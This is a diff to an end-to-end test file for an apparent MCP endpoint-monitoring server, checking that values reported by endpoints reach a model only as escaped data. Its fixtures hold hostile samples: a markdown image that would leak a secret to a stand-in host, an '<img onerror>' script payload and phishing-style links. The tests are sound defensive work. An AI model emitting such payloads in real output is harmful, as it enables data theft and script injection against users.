@@ -6,7 +6,7 @@ import { EndpointList } from '../../lib/contract/mcp-tools.js';
 import { MAX_REPORTED_CHARACTERS, MAX_TOOL_CALLS_PER_REQUEST, RESULT_BUDGET_BYTES } from '../../lib/mcp/limits.js';
 import { LAMBDA_RESPONSE_LIMIT_BYTES } from '../../lib/responses.js';
 import { countingProxy } from '../helpers/faults.js';
-import { elementsIn, renderMarkdown } from '../helpers/markdown.js';
+import { elementsIn, renderMarkdown, textOf } from '../helpers/markdown.js';
 import { type SharedStack, sharedStack } from '../helpers/shared-stack.js';
 
 /**
@@ -26,11 +26,11 @@ const TEN_KB = 'n'.repeat(10_240);
 /** Past what a result carries exactly, and every character of it a control character (the costliest to escape). */
 const HUGE = '\u0001'.repeat(MAX_REPORTED_CHARACTERS + 4_000);
 const PADDING_AGENTS = 300;
-/** Values that a markdown renderer would make an image, a tag, a link, an autolink or a code fence. */
+/** Values that a markdown renderer would make an image, a tag, a link, an autolink, emphasis, strikethrough or a code fence. */
 const MARKDOWN = {
-  hostname: '![x](https://evil.example/p.png?d=secret)',
-  os: '<img src=x onerror=alert(1)>',
-  client_name: '[click here](https://evil.example/login) <https://evil.example/a>',
+  hostname: '_it_ ![x](https://evil.example/p.png?d=secret)',
+  os: '<img src=x onerror=alert(1)> **strong**',
+  client_name: '[click here](https://evil.example/login) <https://evil.example/a> *it* ~~struck~~ &amp;',
   version: '```js\nalert(1)\n``` `x` www.evil.example',
   arch: '| a | b |\n|---|---|\n# heading\n- item mail@evil.example',
 };
@@ -159,7 +159,7 @@ describe('E2E: endpoint-reported text reaches a model only as data', () => {
     expect(result.structuredContent).toMatchObject({ endpoint: { id: 'h-injection', hostname: INJECTION } });
   });
 
-  it("gives no markdown renderer a link, image, autolink, code block, heading, table or HTML from reported values, in either tool's text", async () => {
+  it("gives no markdown renderer a link, image, autolink, emphasis, code block, heading, table or HTML from reported values, in either tool's text", async () => {
     const listed = await call('list_endpoints', { hostname: 'evil.example' });
     const dashboard = await call('observations', { agent_id: 'h-markdown', reason: 'markdown check' });
     const texts = [...listed.content, ...dashboard.content].map((c) => c.text!);
@@ -175,9 +175,16 @@ describe('E2E: endpoint-reported text reaches a model only as data', () => {
     }
     // Each reported value is shown, as text, whole.
     const summaryHtml = renderMarkdown(texts[0]!);
-    expect(summaryHtml).toContain('<code>![x](https://evil.example/p.png?d=secret)</code>');
-    expect(summaryHtml).toContain('<code>&lt;img src=x onerror=alert(1)&gt;</code>');
-    expect(renderMarkdown(texts[2]!)).toContain('<code>[click here](https://evil.example/login) &lt;https://evil.example/a&gt;</code>');
+    expect(summaryHtml).toContain('<code>_it_ ![x](https://evil.example/p.png?d=secret)</code>');
+    expect(summaryHtml).toContain('<code>&lt;img src=x onerror=alert(1)&gt; **strong**</code>');
+    expect(renderMarkdown(texts[2]!)).toContain(
+      '<code>[click here](https://evil.example/login) &lt;https://evil.example/a&gt; *it* ~~struck~~ &amp;amp;</code>',
+    );
+    // The JSON copies are one paragraph each, drawn exactly as their text: not even emphasis or an entity.
+    for (const copy of [texts[1]!, texts[3]!]) {
+      expect([...elementsIn(renderMarkdown(copy))]).toEqual(['p']);
+      expect(textOf(renderMarkdown(copy))).toBe(copy);
+    }
     // The JSON copies still parse to the values, escaped as in the summaries.
     expect(JSON.parse(texts[1]!).endpoints[0]).toMatchObject({ hostname: MARKDOWN.hostname, os: MARKDOWN.os });
     expect(JSON.parse(texts[3]!).endpoint).toMatchObject({ client_name: MARKDOWN.client_name });
